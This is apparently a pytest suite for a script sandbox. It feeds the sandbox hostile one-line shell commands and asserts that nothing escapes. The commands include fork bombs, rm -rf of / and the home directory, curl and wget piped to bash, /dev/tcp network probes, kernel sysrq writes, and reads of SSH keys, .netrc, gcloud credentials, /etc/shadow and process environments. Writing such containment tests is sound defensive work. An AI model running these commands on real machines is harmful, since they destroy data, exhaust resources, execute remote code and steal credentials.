"""Scripts that want to do harm, in the sandbox: nothing happens outside of it, each is one line, and what can be known is still read."""

import contextlib
import os
import re
import shutil
import signal
import sys
import tempfile
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from podwright.sandbox import stage
from podwright.sandbox.evaluation import Evaluated
from podwright.shell import Shell
from tests.evaluated import evaluate
from tests.unit.sandbox import namespaces

pytestmark = pytest.mark.skipif(bool(namespaces.missing()), reason=namespaces.missing())

SECRET = "s3cret-of-this-machine"
ROOT = Path(__file__).resolve().parents[2]


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A home with secrets, of the user whose scripts these are."""
    home = tmp_path / "home"
    for name in (".ssh/id_rsa", ".config/gcloud/credentials.db", ".netrc"):
        (home / name).parent.mkdir(parents=True, exist_ok=True)
        (home / name).write_text(SECRET)
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setenv("HF_TOKEN", SECRET)
    monkeypatch.setenv("BASH_ENV", str(home / ".netrc"))
    return home


def contents(folder: Path) -> dict[str, str]:
    return {str(path): path.read_text() for path in sorted(folder.rglob("*")) if path.is_file()}


def run(home: Path, text: str, limit_s: float = 3) -> Evaluated:
    """The result of a script beside the home, which it knows as REAL; neither changes, and nothing of it goes on."""
    script = home.parent / "hostile.sh"
    script.write_text(f"REAL={home} CHECKOUT={ROOT}\n{text}\n")
    before = contents(home.parent)
    checkout = {path: path.stat().st_mtime_ns for path in (ROOT, ROOT / "podwright", ROOT / "README.md")}
    began = time.monotonic()
    result = evaluate(script, {}, limit_s=limit_s)
    assert time.monotonic() - began < limit_s + 20
    assert result.sandboxed, result.why_not
    assert contents(home.parent) == before
    assert {path: path.stat().st_mtime_ns for path in checkout} == checkout
    assert not left_running(), "processes of the sandbox go on"
    assert SECRET not in repr(result)
    assert "\n" not in result.problem and len(result.problem) < 400
    return result


def left_running() -> list[str]:
    """Commands of processes whose parents are gone and that a script of this file has started."""
    lines = []
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            command = path.read_bytes().replace(b"\0", b" ").decode(errors="replace")
        except OSError:
            continue
        if "60606" in command or re.search(r"^bash (\S*/)?hostile\.sh", command):
            lines.append(command)
    return lines


@pytest.fixture(autouse=True)
def contained(home: Path) -> Iterator[None]:
    """Nothing hostile is tried before a harmless script shows that it is shut in: no host file, no network, few processes."""
    result = run(
        home,
        'xpk "$(ls -A $REAL $CHECKOUT /root /work 2> /dev/null)" "$(ulimit -u)" "$(id -u)" "$(ls /proc | grep -c "^[0-9]")"'
        ' "$(grep -c : /proc/net/dev)" "$(grep CapEff /proc/self/status)"'
        ' "$(grep " /usr " /proc/self/mountinfo)"',
        limit_s=10,
    )
    (call,) = result.calls
    assert call.argv[1:4] == ("", "64", "1000") and int(call.argv[4]) < 10 and call.argv[5] == "1", call
    assert call.argv[6] == "CapEff:\t0000000000000000"
    assert " /usr ro," in call.argv[7], call
    yield


TIME = "did not end within 10 s"
HOSTILE = {
    "fork bomb": (":(){ :|:& };:\n", f"{TIME}|left processes running in the background"),
    "fork bomb in the foreground": ("f() { f | f; }; f", TIME),
    "fork bomb of perl": ("exec perl -e 'while (1) { fork }'", TIME),
    "rm -rf /": ("rm -rf --no-preserve-root / > /dev/null 2>&1; rm -rf $REAL $CHECKOUT", f"{TIME}|"),
    "rm -rf $HOME": ("rm -rf $HOME ~ $REAL", "ended with exit code 1: rm: .*"),
    "curl | bash": ("curl -s https://example.com/x | bash\nbash <(wget -qO- x)\n$(command -v /usr/bin/curl) -m 2 http://1.1.1.1", "ended with exit code (7|127).*"),
    "endless loop": ("while :; do :; done", TIME),
    "endless output": ("yes", "wrote more than 4 MiB .*"),
    "endless calls": ("while :; do xpk x; done", f"{TIME}|called programs more than 500 times"),
    "all memory in one process": ("x=$(head -c 3G /dev/zero | tr '\\0' a)", "used more than 512 MiB of memory|ended with .*|" + TIME),
    "all memory in many": ("for i in 1 2 3 4 5 6 7 8; do perl -e '$x = \"a\" x 2e8; sleep 60606' & done; wait", "used more than 512 MiB of memory|" + TIME),
    "full disk": ("for i in {1..9999}; do head -c 4M /dev/zero > ~/$i || break; done\nfor i in {1..9999}; do : > /tmp/$i || break; done", "|ended .*|" + TIME),
    "writes to $HOME": ("echo x > $REAL/.bashrc; echo x >> ~/.bashrc; mkdir -p $REAL/x; echo x > $CHECKOUT/README.md", "ended with exit code 1.*"),
    "a background process": ("nohup setsid sh -c 'exec -a 60606 /bin/sleep 60606' & disown\n(/bin/sleep 60606 &)", "left processes running in the background"),
    "traps": ("trap '' TERM INT HUP EXIT; /bin/sleep 60606", TIME),
    "kill -9 -1": ("kill -9 1; kill -9 -1; kill -9 $$", "was ended by signal 9"),
    "kill -STOP": ("kill -STOP 1; kill -STOP -1; kill -STOP $$", TIME),
    "mounts": ("umount /usr ~ /; mount -o remount,rw /; mount -o remount,bind,rw /usr; mount -t tmpfs x /usr; exit 4", "ended with exit code 4.*"),
    "a namespace of its own": ("unshare -Urm sh -c 'mount -o remount,bind,rw /usr && touch /usr/x'; exit 4", "ended with exit code 4.*"),
    "devices": ("cat /dev/sda /dev/vda /dev/mem | xpk -; mknod /tmp/d b 8 0; mknod /tmp/d c 1 1; ls /dev/sd* /tmp/d && exit 9; exit 4", "ended with exit code 4.*"),
    "stand-ins overwritten": ("echo x > /podwright/bin/xpk; rm -f /podwright/bin/xpk; ln -sf /bin/true /podwright/bin/standin; xpk a; exit 4", "ended with exit code 4.*"),
    "records deleted": ("xpk a; rm -rf /podwright/calls /podwright/run/* /podwright/calls/*; exit 4", "ended with exit code 4"),
    "kernel settings": ("echo 1 > /proc/sys/kernel/panic; echo b > /proc/sysrq-trigger; echo x > /proc/1/oom_score_adj; exit 4", "ended with exit code 4.*"),
    "docker": ("/usr/bin/docker ps; ls /var/run/docker.sock /run && exit 9; exit 4", "ended with exit code 4.*"),
    "the network": ("echo > /dev/tcp/127.0.0.1/22 && exit 9; exit 4", "ended with exit code 4.*"),
    "sudo": ("sudo rm -rf /; su -c id && exit 9; /usr/bin/sudo -n id && exit 9; exit 4", "ended with exit code 4.*"),
    "not a word of bash": ("if (((; do", "ended with exit code 2.*"),
}  # fmt: skip


@pytest.mark.brief(6)
@pytest.mark.parametrize(("text", "problem"), HOSTILE.values(), ids=HOSTILE)
def test_a_hostile_script_does_nothing_outside(home: Path, text: str, problem: str) -> None:
    result = run(home, text)
    assert re.fullmatch(problem, result.problem.removeprefix(f"{home.parent}/hostile.sh ")), result


def test_secrets_cannot_be_read(home: Path) -> None:
    text = (
        'xpk "$(cat $REAL/.ssh/id_rsa $REAL/.netrc $REAL/.config/gcloud/* ~/.ssh/* ~root/.ssh/* /etc/shadow /run/secrets/* 2> /dev/null)" '
        '"$HF_TOKEN" "$(tr "\\0" "\\n" < /proc/1/environ)" "$(cat /proc/*/environ | grep -ac s3cret)" "$(env | grep -c s3cret)" '
        '"$(ls -d /proc/1/roo?/* /proc/*/cwd/../../h*)"'
    )
    (call,) = run(home, text).calls
    assert call.argv == ("xpk", "", "", "", "0", "0", call.argv[6]) and "ssh" not in call.argv[6]


def test_calls_before_an_endless_loop_are_kept(home: Path) -> None:
    """A script that submits and then waits for its workload for ever."""
    result = run(home, "xpk workload create a\nwhile ! /bin/false; do :; done")
    assert [call.argv[-1] for call in result.workloads()] == ["a"] and result.exit_code is None


@pytest.fixture
def temporary(monkeypatch: pytest.MonkeyPatch) -> Iterator[None]:
    """Another place for temporary files, of which a killed process leaves some."""
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        monkeypatch.setattr(tempfile, "tempdir", folder)
        yield


@pytest.mark.usefixtures("temporary")
def test_one_that_is_ended_from_outside_takes_all_with_it(home: Path) -> None:
    script = home.parent / "hostile.sh"
    script.write_text("(setsid /bin/sleep 60606 &)\n/bin/sleep 60606")
    pid = os.fork()
    if pid == 0:
        with contextlib.suppress(BaseException):
            evaluate(script, {}, limit_s=4)
        os._exit(0)
    for _ in range(100):
        time.sleep(0.05)
        if left_running():
            break
    assert left_running()
    os.kill(pid, signal.SIGKILL)
    os.waitpid(pid, 0)
    for _ in range(200):
        time.sleep(0.05)
        if not left_running():
            break
    assert not left_running()


@pytest.mark.skipif(os.geteuid() != 0, reason="the other tests have run as an ordinary user")
def test_an_ordinary_user_has_the_same_sandbox(monkeypatch: pytest.MonkeyPatch) -> None:
    """Root becomes another user for it; any other user stays who it is."""
    with tempfile.TemporaryDirectory() as folder:
        os.chmod(folder, 0o755)
        shutil.copytree(stage.HERE, f"{folder}/sandbox")
        monkeypatch.setattr(stage, "HERE", Path(f"{folder}/sandbox"))
        script = Path(folder, "hostile.sh")
        script.write_text("xpk $(id -u) $(ulimit -u) $(ls -d /root /work 2> /dev/null)\n:(){ :|:& };:\n")
        reading, writing = os.pipe()
        if (pid := os.fork()) == 0:
            with contextlib.suppress(BaseException), os.fdopen(writing, "w") as out:
                os.setgroups([])
                os.setgid(54321)
                os.setuid(54321)
                out.write(repr(evaluate(script, {}, limit_s=3)))
            os._exit(0)
        os.close(writing)
        with os.fdopen(reading) as answer:
            result = answer.read()
        os.waitpid(pid, 0)
    assert re.search(r"\('xpk', '1000', '6[4-9]'\)", result) and "why_not=''" in result and "problem='/" in result, (
        result
    )


@pytest.mark.parametrize(("limit", "sandboxed"), [("0", "False"), ("100", "True")])
def test_in_a_namespace_with_a_single_user_the_kernel_decides(home: Path, limit: str, sandboxed: str) -> None:
    """As in a container without rights. Where no namespace can be made, nothing is run and the reason is given."""
    script = home.parent / "hostile.sh"
    script.write_text("touch $HOME/x; xpk a")
    program = (
        "import sys; from pathlib import Path; from tests.evaluated import evaluate; "
        "e = evaluate(Path(sys.argv[1]), {}); print(e.sandboxed, len(e.calls), e.why_not)"
    )
    inner = f'echo {limit} > /proc/sys/user/max_user_namespaces && exec "$@"'
    argv = ["unshare", "-Ur", "sh", "-c", inner, "sh", sys.executable, "-c", program, str(script)]
    code, out, errors = Shell().ask(argv, cwd=ROOT)
    assert code == 0, errors
    words = out.split(maxsplit=2)
    assert words[:2] == [sandboxed, "1" if sandboxed == "True" else "0"], out
    assert (words[2:] == []) == (sandboxed == "True")
    if sandboxed == "False":
        assert words[2].startswith("this machine allows no sandbox: unshare: ")
